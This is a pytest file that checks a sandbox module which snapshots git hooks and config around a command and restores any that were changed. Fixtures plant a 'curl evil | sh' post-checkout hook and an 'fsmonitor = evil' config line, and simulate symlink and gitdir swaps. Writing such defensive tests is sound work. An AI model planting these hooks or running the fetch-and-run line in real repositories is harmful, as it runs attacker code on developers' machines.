"""Git's control files, compared around a command: found as git finds them, read and put back
without following a symlink inside the git folder, never in another folder than the one read
before, and never put back from a copy that was not kept."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from intentd.daemon.sandbox import git_control


def repo(root: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
                   check=True, capture_output=True)


def test_a_hook_changed_added_and_removed_is_put_back_as_it_was(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    hooks = root / ".git" / "hooks"
    (hooks / "pre-push").write_text("#!/bin/sh\necho mine\n")
    (hooks / "pre-push").chmod(0o755)
    before = git_control.snapshot(str(root))
    assert before is not None
    (hooks / "pre-push").write_text("#!/bin/sh\necho theirs\n")
    (hooks / "post-merge").write_text("#!/bin/sh\n")
    (root / ".git" / "config").unlink()
    found = git_control.changes_since(before)
    assert found == [(".git/config", "deleted"), (".git/hooks/post-merge", "added"),
                     (".git/hooks/pre-push", "modified")]
    undone, left = git_control.put_back(before, [p for p, _ in found], tmp_path / "kept")
    assert sorted(undone) == [p for p, _ in found] and left == []
    assert (hooks / "pre-push").read_text() == "#!/bin/sh\necho mine\n"
    assert os.stat(hooks / "pre-push").st_mode & 0o777 == 0o755
    assert not (hooks / "post-merge").exists() and (root / ".git" / "config").exists()
    assert (tmp_path / "kept" / ".git" / "hooks" / "pre-push").read_text().endswith("theirs\n")


def test_a_symlinked_hooks_folder_is_never_followed(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    before = git_control.snapshot(str(root))
    assert before is not None
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "pre-commit").write_text("someone else's\n")
    shutil.rmtree(root / ".git" / "hooks")
    (root / ".git" / "hooks").symlink_to(outside)
    now = git_control.read_again(before)
    assert now is not None and not any(p.startswith(".git/hooks/") for p in now)
    undone, left = git_control.put_back(before, [".git/hooks/pre-commit"], tmp_path / "kept")
    assert undone == [] and [p for p, _ in left] == [".git/hooks/pre-commit"]
    assert (outside / "pre-commit").read_text() == "someone else's\n"


def test_a_config_too_big_to_keep_is_named_not_put_back(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    config = root / ".git" / "config"
    config.write_text("#" * (git_control.MAX_BYTES + 1))
    before = git_control.snapshot(str(root))
    assert before is not None
    config.write_text("[core]\n\tfsmonitor = evil\n")
    assert git_control.changes_since(before) == [(".git/config", "modified")]
    undone, left = git_control.put_back(before, [".git/config"], tmp_path / "kept")
    assert undone == [] and "not kept" in left[0][1]
    assert "fsmonitor" in config.read_text()


def test_no_repository_no_snapshot(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    assert git_control.snapshot(str(tmp_path / "ws")) is None
    (tmp_path / "ws" / ".git").write_text("gitdir: ../nowhere\n")  # names no git folder
    assert git_control.snapshot(str(tmp_path / "ws")) is None


def test_a_worktrees_hooks_are_read_where_git_runs_them(tmp_path: Path) -> None:
    """A linked worktree's `.git` is a file; its hooks and config are the main repository's."""
    main = repo(tmp_path / "main")
    git(main, "commit", "-q", "--allow-empty", "-m", "first")
    git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
    before = git_control.snapshot(str(tmp_path / "ws"))
    assert before is not None and before.folder == str((main / ".git").resolve())
    (main / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert git_control.changes_since(before) == [(".git/hooks/post-checkout", "added")]
    undone, _ = git_control.put_back(before, [".git/hooks/post-checkout"], tmp_path / "kept")
    assert undone == [".git/hooks/post-checkout"]
    assert not (main / ".git" / "hooks" / "post-checkout").exists()


def test_a_workspace_inside_a_repository_has_its_git_folder_above(tmp_path: Path) -> None:
    root = repo(tmp_path / "mono")
    (root / "services" / "api").mkdir(parents=True)
    before = git_control.snapshot(str(root / "services" / "api"))
    assert before is not None and before.folder == str((root / ".git").resolve())


def test_a_link_swapped_by_the_command_is_put_back_and_sends_nothing_elsewhere(
        tmp_path: Path) -> None:
    """The command points the workspace's `.git` file at a git folder of its making: the link
    is put back, and the reads after it and the put-back stay in the folder read before."""
    main = repo(tmp_path / "main")
    git(main, "commit", "-q", "--allow-empty", "-m", "first")
    git(main, "worktree", "add", "-q", str(tmp_path / "ws"))
    link = tmp_path / "ws" / ".git"
    before = git_control.snapshot(str(tmp_path / "ws"))
    assert before is not None
    decoy = repo(tmp_path / "decoy")
    (decoy / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    original = link.read_text()
    link.write_text(f"gitdir: {decoy / '.git'}\n")
    (main / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\necho planted\n")
    found = git_control.changes_since(before)
    assert found == [(".git", "modified"), (".git/hooks/pre-commit", "added")]
    undone, left = git_control.put_back(before, [p for p, _ in found], tmp_path / "kept")
    assert sorted(undone) == [".git", ".git/hooks/pre-commit"] and left == []
    assert link.read_text() == original
    assert not (main / ".git" / "hooks" / "pre-commit").exists()
    assert (decoy / ".git" / "hooks" / "pre-commit").exists()


def put_back_all(before: git_control.Snapshot, kept: Path) -> list[tuple[str, str]]:
    """Puts back every change; returns what was left."""
    found = git_control.changes_since(before)
    undone, left = git_control.put_back(before, [p for p, _ in found], kept)
    assert sorted(undone + [p for p, _ in left]) == sorted(p for p, _ in found)
    return left


def test_a_symlinked_hook_and_one_behind_many_others_are_seen_and_removed(
        tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    hooks = root / ".git" / "hooks"
    (root / "src").mkdir()
    (root / "src" / "h.sh").write_text("#!/bin/sh\necho planted\n")
    before = git_control.snapshot(str(root))
    assert before is not None
    (hooks / "pre-commit").symlink_to(root / "src" / "h.sh")  # git runs what it points at
    for n in range(git_control.MAX_HOOKS + 5):
        (hooks / f"a{n:03}").write_text("")
    (hooks / "post-merge").write_text("#!/bin/sh\n")
    found = dict(git_control.changes_since(before))
    assert found[".git/hooks/pre-commit"] == "added" and found[".git/hooks/post-merge"] == "added"
    assert found[".git/hooks/a204"] == "added"  # past the ones read: compared by their stat
    assert put_back_all(before, tmp_path / "kept") == []
    assert sorted(p.name for p in hooks.iterdir() if not p.name.endswith(".sample")) == []
    assert (root / "src" / "h.sh").read_text() == "#!/bin/sh\necho planted\n"
    kept = tmp_path / "kept" / ".git" / "hooks" / "pre-commit.symlink"
    assert kept.read_text() == str(root / "src" / "h.sh")


def test_a_hooks_folder_swapped_for_a_symlink_is_a_folder_again_with_its_hooks(
        tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    hooks = root / ".git" / "hooks"
    (hooks / "pre-push").write_text("#!/bin/sh\necho mine\n")
    before = git_control.snapshot(str(root))
    assert before is not None
    theirs = root / "src" / "hk"
    theirs.mkdir(parents=True)
    (theirs / "pre-commit").write_text("#!/bin/sh\necho planted\n")
    shutil.rmtree(hooks)
    hooks.symlink_to(theirs)
    found = dict(git_control.changes_since(before))
    assert found[".git/hooks"] == "modified" and found[".git/hooks/pre-push"] == "deleted"
    assert put_back_all(before, tmp_path / "kept") == []
    assert hooks.is_dir() and not hooks.is_symlink()
    assert (hooks / "pre-push").read_text() == "#!/bin/sh\necho mine\n"
    assert not (hooks / "pre-commit").exists() and (theirs / "pre-commit").exists()


def test_a_hooks_folder_made_unlistable_gets_its_mode_back(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    hooks = root / ".git" / "hooks"
    before = git_control.snapshot(str(root))
    assert before is not None
    hooks.chmod(0o100)  # git still runs the hooks it names in a folder it cannot list
    try:
        assert git_control.changes_since(before) == [(".git/hooks", "modified")]
        assert put_back_all(before, tmp_path / "kept") == []
        assert os.stat(hooks).st_mode & 0o777 == 0o755
    finally:
        hooks.chmod(0o755)


def test_what_is_too_big_to_copy_is_moved_aside_not_destroyed(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    hooks = root / ".git" / "hooks"
    before = git_control.snapshot(str(root))
    assert before is not None
    big = b"\x7fELF" + b"\0" * (git_control.MAX_BYTES + 1)
    (hooks / "post-checkout").write_bytes(big)
    assert put_back_all(before, tmp_path / "kept") == []
    assert not (hooks / "post-checkout").exists()
    aside = [p for p in hooks.iterdir() if p.name.startswith(".post-checkout.intentd-kept-")]
    assert len(aside) == 1 and aside[0].read_bytes() == big
    note = (tmp_path / "kept" / ".git" / "hooks" / "post-checkout.moved").read_text()
    assert aside[0].name in note


@pytest.mark.timeout(20)
def test_a_fifo_in_place_of_the_config_is_never_opened(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    config = root / ".git" / "config"
    mine = config.read_bytes()
    before = git_control.snapshot(str(root))
    assert before is not None
    config.unlink()
    os.mkfifo(config)
    assert git_control.changes_since(before) == [(".git/config", "modified")]
    assert put_back_all(before, tmp_path / "kept") == []
    assert config.read_bytes() == mine


def test_a_git_folder_replaced_by_the_command_is_named_not_written(tmp_path: Path) -> None:
    root = repo(tmp_path / "ws")
    before = git_control.snapshot(str(root))
    assert before is not None and ".git/config" in before.files
    (root / ".git").rename(root / ".git-old")
    repo(root)
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    assert git_control.changes_since(before) == [(".git/", "replaced")]
    undone, left = git_control.put_back(before, [".git/"], tmp_path / "kept")
    assert undone == [] and left[0][0] == ".git/" and "moved or replaced" in left[0][1]
    assert (root / ".git" / "hooks" / "pre-commit").exists()
